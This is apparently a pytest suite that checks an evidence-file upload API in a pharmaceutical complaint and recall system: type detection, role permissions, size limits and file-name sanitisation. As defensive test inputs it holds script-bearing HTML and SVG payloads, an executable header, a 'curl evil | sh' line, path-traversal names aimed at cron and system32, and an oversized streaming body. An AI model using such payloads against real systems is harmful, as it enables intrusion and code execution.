"""Evidence files over the API: upload, list, download; types told from bytes; roles; limits."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path
from urllib.parse import unquote

import pytest

from tests.factories import destroy, headers_as, headers_for, make_complaint, make_investigation

PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 40
HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/users')</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
MIB = 1024 * 1024


async def upload(client, headers, entity, entity_id, name="evidence.pdf", content=PDF, kind=None):
    return await client.post(
        "/api/attachments",
        data={"entity": entity, "entity_id": str(entity_id)},
        files={"file": (name, content, kind or "application/pdf")},
        headers=headers,
    )


async def listed(client, headers, entity, entity_id):
    return await client.get(
        "/api/attachments",
        params={"entity": entity, "entity_id": str(entity_id)},
        headers=headers,
    )


def stored_files(settings) -> list[Path]:
    root = Path(settings.attachment_store_url.removeprefix("file://"))
    return [path for path in root.rglob("*") if path.is_file()]


@pytest.fixture
async def complaint(client) -> dict:
    return await make_complaint(client)


async def test_a_complaint_file_is_kept_listed_and_downloaded_as_uploaded(client, complaint):
    cs = await headers_for("cs")
    response = await upload(client, cs, "complaint", complaint["id"], "Foto kemasan.pdf")
    assert response.status_code == 201, response.text
    body = response.json()
    assert body["filename"] == "Foto kemasan.pdf"
    assert body["content_type"] == "application/pdf"
    assert body["size"] == len(PDF)
    assert body["sha256"] == hashlib.sha256(PDF).hexdigest()
    assert body["entity"] == "complaint" and body["entity_id"] == complaint["id"]

    inspector = await headers_for("inspector")
    found = (await listed(client, inspector, "complaint", complaint["id"])).json()
    assert [item["id"] for item in found["items"]] == [body["id"]]
    assert found["total"] == 1

    download = await client.get(f"/api/attachments/{body['id']}", headers=inspector)
    assert download.status_code == 200
    assert download.content == PDF
    assert download.headers["content-type"].startswith("application/pdf")
    assert download.headers["x-content-type-options"] == "nosniff"
    disposition = download.headers["content-disposition"]
    assert disposition.startswith("attachment;")
    assert unquote(disposition.split("filename*=UTF-8''")[1]) == "Foto kemasan.pdf"


async def test_the_audit_entry_holds_the_file_hash(client, complaint):
    response = await upload(client, await headers_for("qa"), "complaint", complaint["id"])
    attachment = response.json()
    entries = await client.get(
        "/api/audit",
        params={"entity": "attachment", "entity_id": str(attachment["id"])},
        headers=await headers_for("admin"),
    )
    [entry] = entries.json()["items"]
    assert entry["action"] == "created"
    assert entry["new_values"] == {
        "entity": "complaint",
        "entity_id": complaint["id"],
        "filename": "evidence.pdf",
        "content_type": "application/pdf",
        "size": len(PDF),
        "sha256": hashlib.sha256(PDF).hexdigest(),
    }


async def test_the_same_bytes_twice_are_stored_once_and_attached_twice(client, complaint, settings):
    content = PDF + os.urandom(16)
    cs = await headers_for("cs")
    first = await upload(client, cs, "complaint", complaint["id"], "a.pdf", content)
    second = await upload(client, cs, "complaint", complaint["id"], "b.pdf", content)
    assert first.status_code == second.status_code == 201
    assert first.json()["id"] != second.json()["id"]
    sha256 = hashlib.sha256(content).hexdigest()
    assert [path.name for path in stored_files(settings)].count(sha256) == 1
    names = [
        i["filename"]
        for i in (await listed(client, cs, "complaint", complaint["id"])).json()["items"]
    ]
    assert names == ["a.pdf", "b.pdf"]
    for item in (first.json(), second.json()):
        download = await client.get(f"/api/attachments/{item['id']}", headers=cs)
        assert download.content == content


async def test_the_type_comes_from_the_bytes_not_the_name_or_header(client, complaint):
    response = await upload(
        client, await headers_for("cs"), "complaint", complaint["id"], "scan.pdf", PNG, "text/html"
    )
    assert response.status_code == 201, response.text
    assert response.json()["content_type"] == "image/png"
    download = await client.get(
        f"/api/attachments/{response.json()['id']}", headers=await headers_for("qa")
    )
    assert download.headers["content-type"].startswith("image/png")


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("report.pdf", HTML),
        ("photo.png", SVG),
        ("notes.txt", b"\n  <script>alert(1)</script>"),
        ("invoice.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200),
        ("readme.txt", b"#!/bin/sh\ncurl evil | sh\n"),
    ],
)
async def test_pages_scripts_and_programs_are_refused_whatever_their_name(
    client, complaint, settings, name, content
):
    before = stored_files(settings)
    response = await upload(
        client, await headers_for("cs"), "complaint", complaint["id"], name, content
    )
    assert response.status_code == 422, response.text
    assert response.json()["field"] == "file"
    assert "not accepted as evidence" in response.json()["detail"]
    assert stored_files(settings) == before
    assert (await listed(client, await headers_for("qa"), "complaint", complaint["id"])).json()[
        "total"
    ] == 0


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../../etc/cron.d/evil.pdf", "evil.pdf"),
        ("..\\..\\windows\\system32\\x.pdf", "x.pdf"),
        ("bad\x1b[31mname\u202e.pdf", "bad[31mname.pdf"),
        ("..", "attachment"),
        ("a" * 300 + ".pdf", "a" * 251 + ".pdf"),
        ('say "hi"; x.pdf', "say _hi_; x.pdf"),
    ],
)
async def test_a_file_name_is_kept_as_a_safe_base_name(client, complaint, settings, sent, kept):
    response = await upload(client, await headers_for("cs"), "complaint", complaint["id"], sent)
    assert response.status_code == 201, response.text
    assert response.json()["filename"] == kept
    root = Path(settings.attachment_store_url.removeprefix("file://"))
    assert all(root in path.parents for path in stored_files(settings))
    download = await client.get(
        f"/api/attachments/{response.json()['id']}", headers=await headers_for("qa")
    )
    disposition = download.headers["content-disposition"]
    assert "\n" not in disposition and "\x00" not in disposition
    assert unquote(disposition.split("filename*=UTF-8''")[1]) == kept


async def test_a_nul_in_the_raw_file_name_is_dropped(client, complaint):
    body = (
        b'--x\r\nContent-Disposition: form-data; name="entity"\r\n\r\ncomplaint\r\n'
        b'--x\r\nContent-Disposition: form-data; name="entity_id"\r\n\r\n'
        + str(complaint["id"]).encode()
        + b'\r\n--x\r\nContent-Disposition: form-data; name="file"; filename="a\x00b.pdf"\r\n'
        b"Content-Type: application/pdf\r\n\r\n" + PDF + b"\r\n--x--\r\n"
    )
    response = await client.post(
        "/api/attachments",
        content=body,
        headers={**await headers_for("cs"), "Content-Type": "multipart/form-data; boundary=x"},
    )
    assert response.status_code == 201, response.text
    assert response.json()["filename"] == "ab.pdf"


async def test_unicode_names_download_under_their_own_name(client, complaint):
    name = "Berita acara pemusnahan — Surabaya ü.pdf"
    response = await upload(client, await headers_for("cs"), "complaint", complaint["id"], name)
    download = await client.get(
        f"/api/attachments/{response.json()['id']}", headers=await headers_for("qa")
    )
    disposition = download.headers["content-disposition"]
    assert disposition.isascii()
    assert unquote(disposition.split("filename*=UTF-8''")[1]) == name


async def test_bad_input_names_its_field(client, complaint):
    cs = await headers_for("cs")
    unknown = await upload(client, cs, "warehouse", complaint["id"])
    assert (unknown.status_code, unknown.json()["field"]) == (422, "entity")
    missing = await upload(client, cs, "complaint", complaint["id"] + 1000)
    assert (missing.status_code, missing.json()["field"]) == (422, "entity_id")
    empty = await upload(client, cs, "complaint", complaint["id"], content=b"")
    assert (empty.status_code, empty.json()["field"]) == (422, "file")
    no_file = await client.post(
        "/api/attachments",
        data={"entity": "complaint", "entity_id": str(complaint["id"])},
        files={"other": ("x.pdf", PDF)},
        headers=cs,
    )
    assert no_file.status_code == 400
    listing = await listed(client, cs, "complaint", complaint["id"] + 1000)
    assert (listing.status_code, listing.json()["field"]) == (422, "entity_id")


async def test_files_up_to_the_limit_are_kept_and_larger_ones_refused(client, complaint, settings):
    limit = settings.attachment_max_bytes
    assert limit == 25 * MIB
    cs = await headers_for("cs")
    content = PDF + os.urandom(limit - len(PDF))
    kept = await upload(client, cs, "complaint", complaint["id"], "big.pdf", content)
    assert kept.status_code == 201, kept.text
    assert kept.json()["size"] == limit
    over = await upload(client, cs, "complaint", complaint["id"], "bigger.pdf", content + b"x")
    assert (over.status_code, over.json()["field"]) == (413, "file")


async def test_a_body_with_a_lying_length_is_cut_off_at_the_limit(client, complaint, settings):
    """An endless body claiming to be small: refused once it passes the limit, not read on."""
    read = 0
    chunk = b"x" * MIB
    boundary = "b0undary"
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="entity"\r\n\r\ncomplaint\r\n'
        f'--{boundary}\r\nContent-Disposition: form-data; name="entity_id"\r\n\r\n'
        f"{complaint['id']}\r\n"
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="x.pdf"\r\n'
        "Content-Type: application/pdf\r\n\r\n"
    ).encode()

    async def endless():
        nonlocal read
        yield head
        while read < 4 * settings.attachment_max_bytes:  # a safety stop for a broken server
            read += len(chunk)
            yield chunk

    response = await client.post(
        "/api/attachments",
        content=endless(),
        headers={
            **await headers_for("cs"),
            "Content-Type": f"multipart/form-data; boundary={boundary}",
            "Content-Length": "1000",
        },
    )
    assert response.status_code == 413
    assert read <= settings.attachment_max_bytes + 2 * MIB


async def test_an_announced_length_over_the_limit_is_refused_before_reading(client, complaint):
    read = 0

    async def body():
        nonlocal read
        read += 1
        yield b"--x--\r\n"

    response = await client.post(
        "/api/attachments",
        content=body(),
        headers={
            **await headers_for("cs"),
            "Content-Type": "multipart/form-data; boundary=x",
            "Content-Length": str(26 * MIB + 70 * 1024),
        },
    )
    assert response.status_code == 413
    assert read == 0


@pytest.mark.parametrize("method", ["PUT", "PATCH", "DELETE"])
async def test_files_are_never_changed_or_deleted(client, complaint, method):
    qa = await headers_for("qa")
    attachment = (await upload(client, qa, "complaint", complaint["id"])).json()
    response = await client.request(method, f"/api/attachments/{attachment['id']}", headers=qa)
    assert response.status_code == 405
    on_list = await client.request(method, "/api/attachments", headers=qa)
    assert on_list.status_code == 405
    download = await client.get(f"/api/attachments/{attachment['id']}", headers=qa)
    assert download.content == PDF


async def test_a_distributor_neither_uploads_lists_nor_downloads(client, two_tiers):
    recall_id = two_tiers["recall"]["id"]
    attachment = (await upload(client, await headers_for("qa"), "recall", recall_id)).json()
    distributor = two_tiers["headers"]["PBF-A"]
    assert (await upload(client, distributor, "recall", recall_id)).status_code == 403
    assert (await listed(client, distributor, "recall", recall_id)).status_code == 403
    download = await client.get(f"/api/attachments/{attachment['id']}", headers=distributor)
    assert download.status_code == 403


async def test_roles_attach_to_the_records_they_work_on(client, two_tiers):
    recall_id = two_tiers["recall"]["id"]
    qa = await headers_for("qa")
    investigation = await make_investigation(client, qa)
    destruction = await destroy(client, two_tiers, 120, consignee_code="PBF-A")
    assert destruction.status_code == 201, destruction.text
    complaint = await make_complaint(client)
    records = [
        ("complaint", complaint["id"], {"cs", "qa"}),
        ("investigation", investigation["id"], {"qa", "qa_manager"}),
        ("recall", recall_id, {"qa", "qa_manager"}),
        ("destruction", destruction.json()["id"], {"qa", "qa_manager"}),
    ]
    for entity, entity_id, uploaders in records:
        for role in ("cs", "qa", "qa_manager", "inspector", "admin"):
            response = await upload(client, await headers_as(role), entity, entity_id)
            expected = 201 if role in uploaders else 403
            assert response.status_code == expected, (entity, role, response.text)
        listing = await listed(client, await headers_for("inspector"), entity, entity_id)
        assert listing.json()["total"] == len(uploaders)


async def test_ids_of_files_a_role_may_not_see_answer_not_found(client):
    qa = await headers_for("qa")
    investigation = await make_investigation(client, qa)
    hidden = (await upload(client, qa, "investigation", investigation["id"])).json()
    cs = await headers_for("cs")
    assert (await listed(client, cs, "investigation", investigation["id"])).status_code == 403
    for attachment_id in (hidden["id"], hidden["id"] + 1, 2**31 - 1):
        response = await client.get(f"/api/attachments/{attachment_id}", headers=cs)
        assert response.status_code == 404, attachment_id
    assert (await client.get("/api/attachments/0", headers=cs)).status_code in (400, 404)
    inspector = await client.get(
        f"/api/attachments/{hidden['id']}", headers=await headers_for("inspector")
    )
    assert inspector.content == PDF


async def test_signed_out_callers_get_nothing(client, complaint):
    attachment = (
        await upload(client, await headers_for("cs"), "complaint", complaint["id"])
    ).json()
    assert (await client.get(f"/api/attachments/{attachment['id']}")).status_code == 401
    assert (await upload(client, {}, "complaint", complaint["id"])).status_code == 401
